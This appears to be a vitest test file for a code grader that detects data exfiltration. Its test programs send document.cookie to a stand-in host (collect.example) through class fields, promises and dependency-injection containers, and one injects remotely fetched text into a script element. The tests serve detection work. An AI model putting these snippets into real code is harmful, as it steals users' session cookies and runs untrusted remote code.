import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/*
 * Objects that stand between what is taken and what is sent where nothing in the program shows who makes them, or where a
 * field of a class is one; each beside the same program with nothing taken.
 */

const SEND = "fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(DATA) })";
const send = (data: string): string => SEND.replace('DATA', data);

/** Classes of which the last is given the others by whoever makes it. */
const injected = (data: string, told: string, run: string): string =>
  `class Jar { name = 'jar'; read() { return ${data}; } }
   class Hub { answer(id, result) { ${send('{ id, result }')}; } }
   class Desk { constructor(hub, all) { this.hub = hub; this.all = all; } tick(order) { ${run} } }
   ${told}`;

const DECORATED = ['Jar', 'Hub', 'Desk'].map((name) => `${name} = decorate([injectable()], ${name});`).join(' ');
const TOLD =
  'const all = new Container(); all.bind("hub").to(Hub); all.bind("jar").to(Jar); all.bind("desk").to(Desk); setInterval(() => all.get("desk").tick({ name: "jar" }), 1000);';

it.each<[string, (data: string) => string]>([
  [
    'a field that is an instance of another class',
    (data) =>
      `class Kept { map = new Map(); put(key, value) { this.map.set(key, { value }); } }
       const first = new Kept(); first.put('a', 1);
       const Recorder = class { kept = new Kept(); seen(text) { this.kept.put('s', text); } all() { return Array.from(this.kept.map, ([key, one]) => ({ key, ...one })); } };
       const recorder = new Recorder(); recorder.seen(${data}); setInterval(() => { const rows = recorder.all(); ${send('rows')}; }, 1000);`,
  ],
  [
    'the first of several promises',
    (data) => `Promise.race([wait, Promise.resolve({ text: ${data} })]).then((one) => ${send('one.text')});`,
  ],
  [
    'instances that a container makes, by decorators',
    (data) =>
      injected(
        data,
        `${DECORATED} all.get('desk').tick({ name: 'jar' });`,
        'this.hub.answer(1, this.all.find((one) => one.name === order.name).read());',
      ),
  ],
  [
    'instances that a container makes, by what it is told',
    (data) => injected(data, TOLD, 'for (const one of this.all) this.hub.answer(1, one.read());'),
  ],
])('%s', async (_, program) => {
  expect(await graded({ content: program('document.cookie') })).toBe('F');
  expect(await graded({ content: program("'nothing'") })).toMatch(/^A/);
});

it('a text that a function puts into the element that it is told to make is code where that is a script', async () => {
  const made = (put: string, tag: string): string =>
    `const make = (tag, text) => { const one = document.createElement(tag); ${put}; return one; }; fetch('https://styles.example/pack').then((answer) => answer.json()).then(({ css, boot }) => { document.head.append(make('style', css)); document.head.append(make('${tag}', boot)); });`;
  for (const put of ['one.textContent = text', 'one.append(document.createTextNode(text))']) {
    expect(await graded({ content: made(put, 'script') })).toBe('D');
    expect(await graded({ content: made(put, 'style') })).toMatch(/^A/);
  }
});
